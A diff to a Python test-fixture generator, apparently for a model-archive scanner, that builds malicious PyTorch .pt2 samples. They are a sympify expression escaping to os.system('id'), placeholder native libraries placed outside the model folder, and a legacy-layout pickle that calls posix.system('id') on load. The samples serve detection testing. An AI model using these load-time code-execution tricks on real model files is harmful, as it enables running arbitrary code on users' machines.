@@ -342,6 +342,59 @@ def make_pt2():
     # A legacy weights file, which torch.export.load prefers to the weights config.
     pt2_copy("pt2_legacy_weights.pt2", lambda record, data: data, {"data/weights/model.pt": system})
 
+    # An expr_str that sympy.sympify evaluates (torch.export.load's _parse_sym_expr): it runs `id`,
+    # then gives the symbol it replaced, so the program loads as before.
+    dynamic = os.path.join(ROOT, "..", "pt2", "mlp_dynamic.pt2")
+    symbol = "Symbol('s77', positive=True, integer=True)"
+    evil = "(sympify.__globals__['__builtins__']['__import__']('os').system('id'), %s)[1]" % symbol
+    with zipfile.ZipFile(dynamic) as zin, zipfile.ZipFile(os.path.join(ROOT, "evil/pt2_sympify_expr.pt2"), "w",
+                                                          zipfile.ZIP_STORED) as zout:
+        for info in zin.infolist():
+            data = zin.read(info.filename)
+            if info.filename.endswith("models/model.json"):
+                assert symbol.encode() in data
+                data = data.replace(json.dumps(symbol).encode(), json.dumps(evil).encode(), 1)
+            zout.writestr(info.filename, data)
+
+    # AOTInductor code outside the model's folder, which AOTIModelPackageLoader (2.13) still takes
+    # for model m: every record under data/constants, and under data/aotinductor/m without a slash
+    # (a sibling m2's). The .so files are placeholders, not ELF: nothing here is ever loaded.
+    meta = json.dumps({"AOTI_DEVICE_KEY": "cpu"})
+    placeholder = b"\x7fELF placeholder: tsarchive judges native code by its name\n"
+    for name, records in (
+            ("aoti_constants_so", {"data/aotinductor/m/wrapper_metadata.json": meta,
+                                   "data/constants/m.cpp": "// never compiled: a .so is present\n",
+                                   "data/constants/m_metadata.json": meta, "data/constants/m.so": placeholder}),
+            ("aoti_sibling_prefix_so", {"data/aotinductor/m/m_metadata.json": meta, "data/aotinductor/m/m.so": placeholder,
+                                        "data/aotinductor/m2/m2_metadata.json": meta,
+                                        "data/aotinductor/m2/m2.so": placeholder})):
+        with zipfile.ZipFile(os.path.join(ROOT, "evil/" + name + ".pt2"), "w", zipfile.ZIP_STORED) as z:
+            z.writestr(name + "/archive_format", "pt2")
+            z.writestr(name + "/archive_version", "0")
+            for record, data in records.items():
+                z.writestr(name + "/" + record, data)
+            # what PyTorchFileWriter adds to every archive
+            z.writestr(name + "/version", "3\n")
+            z.writestr(name + "/byteorder", "little")
+            z.writestr(name + "/.data/serialization_id", "0" * 40)
+
+    # torch.export's layout before 2.6, records at the ZIP's root: torch.export.load (2.13) falls back to
+    # Python's zipfile and torch.load()s serialized_state_dict.pt, weights_only=False when True refuses.
+    with zipfile.ZipFile(dynamic) as zin:
+        program = zin.read([n for n in zin.namelist() if n.endswith("models/model.json")][0])
+    schema = json.loads(program)["schema_version"]
+    state = io.BytesIO()
+    with zipfile.ZipFile(state, "w", zipfile.ZIP_STORED) as z:
+        z.writestr("serialized_state_dict/data.pkl", proto() + dict_of((ustr("w"), call("posix", "system", ustr("id")))) + P.STOP)
+        z.writestr("serialized_state_dict/byteorder", "little")
+        z.writestr("serialized_state_dict/version", "3\n")
+    with zipfile.ZipFile(os.path.join(ROOT, "evil/pt2_legacy_zip_layout.pt2"), "w", zipfile.ZIP_STORED) as z:
+        z.writestr("version", "%d.%d" % (schema["major"], schema["minor"]))
+        z.writestr("serialized_exported_program.json", program)
+        z.writestr("serialized_state_dict.pt", state.getvalue())
+        z.writestr("serialized_constants.pt", b"")
+        z.writestr("serialized_example_inputs.pt", b"")
+
 
 def main():
     for sub in ("evil", "crafted", "benign"):
